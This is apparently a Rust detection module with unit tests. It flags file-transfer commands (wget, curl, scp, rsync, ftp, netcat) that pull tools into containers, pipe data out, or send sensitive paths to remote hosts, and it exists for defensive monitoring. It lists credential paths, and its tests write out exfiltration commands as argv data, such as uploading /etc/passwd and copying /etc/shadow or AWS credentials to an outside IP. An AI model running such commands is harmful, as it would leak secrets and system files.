//! File transfer: ingress (wget, curl -o/-O, scp/rsync/ftp/tftp pulling) into a container,
//! egress (scp/rsync to a remote host, curl uploads) of a container or of sensitive paths, and
//! curl/wget run with a proxy in the environment. Health checks (`curl -f http://localhost`,
//! `wget --spider`) and version queries are not transfers.

use super::needles::Needles;
use super::{args, has_opt, version_query_only, ClassSet, Ctx, Findings};
use crate::knowledge::{signals, ToolClass};

static SENSITIVE: Needles = Needles::new(&[
    "/etc/",
    "/root/",
    ".ssh",
    ".aws",
    "/var/lib/mysql",
    "/var/lib/postgresql",
    ".kube",
    "shadow",
    "/home/",
]);

/// scp, rsync and sftp options whose value is the next word (scp(1), rsync(1), sftp(1)).
const TAKES_VALUE: &[&str] = &[
    "-e",
    "--rsh",
    "-i",
    "-o",
    "-F",
    "-S",
    "-P",
    "-l",
    "-c",
    "-J",
    "-B",
    "-D",
    "-R",
    "--rsync-path",
    "--exclude",
    "--include",
    "--exclude-from",
    "--include-from",
    "--files-from",
    "--filter",
    "-f",
    "--chown",
    "--chmod",
    "--log-file",
    "--password-file",
    "--port",
    "--timeout",
    "--bwlimit",
    "-T",
    "--temp-dir",
    "--backup-dir",
    "--suffix",
];

/// A destination where droppers stage payloads.
fn staging(path: &str) -> bool {
    super::in_writable_dir(path)
        || path
            .split('/')
            .any(|s| s.starts_with('.') && s.len() > 1 && s != "..")
}

pub fn wants(cx: &Ctx) -> bool {
    cx.runs_any(ClassSet::of(&[
        ToolClass::Netcat,
        ToolClass::Downloader,
        ToolClass::Transfer,
    ]))
}

pub fn detect(cx: &Ctx, out: &mut Findings) {
    for c in cx.commands() {
        let p = c.program();
        let class = c.class;
        if class == Some(ToolClass::Netcat) && c.joiner == crate::analysis::shell::Joiner::Pipe {
            out.hit(
                signals::NETWORK_EXFILTRATION_PIPE,
                format!("data piped into {}", super::join(c)),
            );
        }
        if !matches!(class, Some(ToolClass::Downloader | ToolClass::Transfer)) {
            continue;
        }
        if version_query_only(c) {
            out.note(format!("{p} only asked for its version"));
            continue;
        }
        let a = args(c);
        let local_only = a.iter().any(|x| {
            x.contains("://localhost") || x.contains("://127.0.0.1") || x.contains("://[::1]")
        });
        if class == Some(ToolClass::Downloader) {
            let proxies = crate::facts::ENV_KEYS
                .iter()
                .filter(|k| k.ends_with("_PROXY") || k.ends_with("_proxy"));
            for proxy in proxies {
                if let Some(v) = cx.env(proxy) {
                    out.hit(signals::PROXY_ENV_TRANSFER, format!("{p} with {proxy}={v}"));
                    break;
                }
            }
        }
        let upload = (p == "wget" && has_opt(c, &["--post-file", "--body-file"]))
            || p == "curl"
                && (has_opt(c, &["-T", "--upload-file"])
                    || a.iter().any(|x| x.starts_with('@') || x.contains("=@"))
                        && has_opt(c, &["-F", "--form", "-d", "--data", "--data-binary"]));
        let remote_dest = matches!(p, "scp" | "rsync" | "sftp")
            && a.iter()
                .rfind(|x| !x.starts_with('-'))
                .is_some_and(|d| d.contains(':') && !d.contains("://"));
        let remote_src = matches!(p, "scp" | "rsync")
            && a.iter()
                .filter(|x| !x.starts_with('-'))
                .rev()
                .skip(1)
                .any(|s| s.contains(':'));
        // What is sent: curl's arguments, or scp's and rsync's operands before the
        // destination, without option values (`-e 'ssh -i /root/.ssh/backup_key'` names the
        // key that opens the connection, not a file sent).
        let sensitive = if matches!(p, "scp" | "rsync" | "sftp") {
            let mut operands = Vec::new();
            let mut words = a.iter();
            while let Some(x) = words.next() {
                if TAKES_VALUE.contains(&x.as_ref()) {
                    words.next();
                } else if !x.starts_with('-') {
                    operands.push(x);
                }
            }
            operands.pop();
            operands.iter().any(|x| SENSITIVE.any_in(x))
        } else {
            a.iter().any(|x| SENSITIVE.any_in(x))
        };
        let piped_in = c.joiner == crate::analysis::shell::Joiner::Pipe
            && a.iter().any(|x| x == "@-" || x.ends_with("=@-"));
        if piped_in {
            out.hit(
                signals::NETWORK_EXFILTRATION_PIPE,
                format!("data piped into {}", super::join(c)),
            );
            continue;
        }
        if upload || (remote_dest && !remote_src) {
            if cx.in_container || sensitive {
                out.hit(signals::EGRESS_FILE_TRANSFER, super::join(c));
            }
            continue;
        }
        let fetches = match p {
            "wget" => !has_opt(c, &["--spider"]),
            "curl" => {
                has_opt(
                    c,
                    &[
                        "-o",
                        "-O",
                        "--output",
                        "--remote-name",
                        "-OJ",
                        "-LO",
                        "-Lo",
                        "-sLO",
                        "-fsSLO",
                        "-fLO",
                    ],
                ) || a.iter().any(|x| {
                    x.starts_with("-o")
                        || (x.starts_with('-') && !x.starts_with("--") && x.contains('O'))
                })
            }
            _ => true,
        };
        let dest = if matches!(p, "scp" | "rsync") {
            a.iter().rfind(|x| !x.starts_with('-')).map(|a| &**a)
        } else {
            super::opt_value(
                c,
                &[
                    "-o",
                    "-O",
                    "--output",
                    "--output-document",
                    "-P",
                    "--directory-prefix",
                ],
            )
        };
        // Archives and packages into /tmp are how installers work; droppers fetch executables.
        let archive = dest.is_some_and(|d| {
            [
                ".tgz", ".tar.gz", ".tar.xz", ".zip", ".deb", ".rpm", ".whl", ".jar", ".iso",
                ".tar",
            ]
            .iter()
            .any(|x| d.ends_with(x))
        });
        let dest = dest.filter(|_| !archive);
        let legacy_get = matches!(p, "tftp" | "ftp" | "lftp")
            && (has_opt(c, &["-g", "get"]) || a.iter().any(|x| x == "get" || x == "-g"));
        if fetches && !local_only && (dest.is_some_and(staging) || legacy_get) {
            out.hit(signals::TOOL_FETCHED_TO_STAGING, super::join(c));
        } else if fetches && cx.in_container && !local_only {
            out.hit(signals::INGRESS_TOOL_TRANSFER, super::join(c));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::testutil::*;
    use super::*;
    use crate::analysis::Lineage;

    fn in_ctr(argv: &[&str]) -> Vec<&'static str> {
        run_with(detect, &in_container(facts(argv)), &Lineage::default()).0
    }

    #[test]
    fn fires_on_transfers_in_containers() {
        assert_eq!(
            in_ctr(&["wget", "http://203.0.113.5/x"]),
            ["ingress_tool_transfer"]
        );
        assert_eq!(
            in_ctr(&["curl", "-o", "/tmp/x", "http://203.0.113.5/x"]),
            ["tool_fetched_to_staging"]
        );
        assert_eq!(
            in_ctr(&["curl", "-F", "f=@/etc/passwd", "http://203.0.113.5/u"]),
            ["egress_file_transfer"]
        );
        assert_eq!(
            run(detect, &["scp", "/etc/shadow", "x@203.0.113.5:/tmp/"]),
            ["egress_file_transfer"]
        );
    }

    #[test]
    fn quiet_on_health_checks_and_host_use() {
        assert!(in_ctr(&["curl", "-f", "http://localhost/health"]).is_empty());
        assert!(in_ctr(&["wget", "-q", "--spider", "http://localhost:8080/"]).is_empty());
        assert!(in_ctr(&["wget", "-V"]).is_empty());
        assert!(run(
            detect,
            &[
                "scp",
                "dist/app.tar.gz",
                "deploy@web01.internal:/srv/releases/"
            ]
        )
        .is_empty());
    }

    #[test]
    fn an_identity_option_is_not_what_is_sent() {
        let backup = [
            "rsync",
            "-az",
            "-e",
            "ssh -i /root/.ssh/k",
            "/srv/www/",
            "b@h:/b/",
        ];
        assert!(run(detect, &backup).is_empty());
        let etc = [
            "rsync",
            "-az",
            "-e",
            "ssh -i /root/.ssh/k",
            "/etc/",
            "b@h:/b/",
        ];
        assert_eq!(run(detect, &etc), ["egress_file_transfer"]);
        assert_eq!(
            run(
                detect,
                &["scp", "-i", "/tmp/k", "/root/.aws/credentials", "x@h:"]
            ),
            ["egress_file_transfer"]
        );
    }
}
